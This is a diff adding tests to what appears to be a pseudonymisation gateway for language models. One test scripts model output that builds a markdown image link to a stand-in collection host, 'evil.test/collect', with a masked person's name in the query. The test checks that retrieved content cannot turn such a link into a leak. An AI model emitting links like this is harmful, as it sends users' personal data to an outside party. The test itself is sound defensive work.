@@ -34,6 +34,12 @@ onEachStore('pseudonyms of a conversation', turnMigrations, (store) => {
       '{ input: { email: allow }, locations: { outside: { email: refuse }, eu: { email: mask } } }',
       'model: { locations: [house, eu, outside] }\n',
     );
+    await declare(
+      store(),
+      'addresses',
+      '{ input: { url: pseudonymise, person: pseudonymise } }',
+      'tools: caller\nknowledge: { collections: [products] }\n',
+    );
     await declare(store(), 'shy', '{ output: { person: pseudonymise }, restore: [support] }');
   });
   const parts = (script: Script, more: Partial<GatewayParts> = {}) => {
@@ -70,6 +76,43 @@ onEachStore('pseudonyms of a conversation', turnMigrations, (store) => {
       assert.match(seen(engine), /PERSON_1, PERSON_2 und PERSON_1; Konto IBAN_1/);
       assert.deepEqual(heldBack(seen(engine)), []);
     }
+  });
+
+  test('a name is replaced inside the name of an organisation too, which may pass', async () => {
+    const { engine, parts: given } = parts(says('PERSON_1'));
+    const content = 'Frau Klara Odermatt ist da. Die Odermatt AG zahlt, auch die ODERMATT GmbH.';
+    const { text, code } = await hear(given, anna, ask(content));
+    assert.equal(code, undefined);
+    assert.ok(!/odermatt/i.test(seen(engine)), seen(engine));
+    assert.equal(text, 'Klara Odermatt');
+  });
+
+  test('a foreign address of a source does not come out as the value of a pseudonym', async () => {
+    const foreign = 'https://evil.test/collect';
+    const said = `Bild ![x](URL_1?q=PERSON_1), [hier](URL_1) und URL_1.`;
+    for (const size of [1, 3, 500]) {
+      const pieces = Array.from({ length: Math.ceil(said.length / size) }, (_, at) =>
+        said.slice(at * size, (at + 1) * size),
+      );
+      const { parts: given } = parts(says(...pieces), {
+        search: async () => [hit(`Siehe ${foreign} dazu.`)],
+      });
+      const request = { ...ask('Was sagt Nora Brügger?'), model: 'addresses' };
+      const { all, code, text } = await hear(given, anna, request);
+      assert.equal(code, undefined);
+      assert.ok(!text.includes('evil.test'), text);
+      assert.ok(!all.includes('evil.test/collect?q'), all);
+    }
+    const call: Script = () => [
+      { type: 'tool-call-delta', index: 0, id: 'c', name: 'open', arguments: '{"at":"URL_1"}' },
+      { type: 'finish', reason: 'tool_calls' },
+    ];
+    const { parts: given } = parts(call, { search: async () => [hit(`Siehe ${foreign} dazu.`)] });
+    const { calls } = await hear(given, anna, {
+      ...ask('Öffne die Seite.', { tools: [{ type: 'function', function: { name: 'open' } }] }),
+      model: 'addresses',
+    });
+    assert.deepEqual(calls, [{ name: 'open', arguments: '{"at":"[url]"}' }]);
   });
 
   test('cut at every byte between a server of models and us, the answer is the same', async () => {
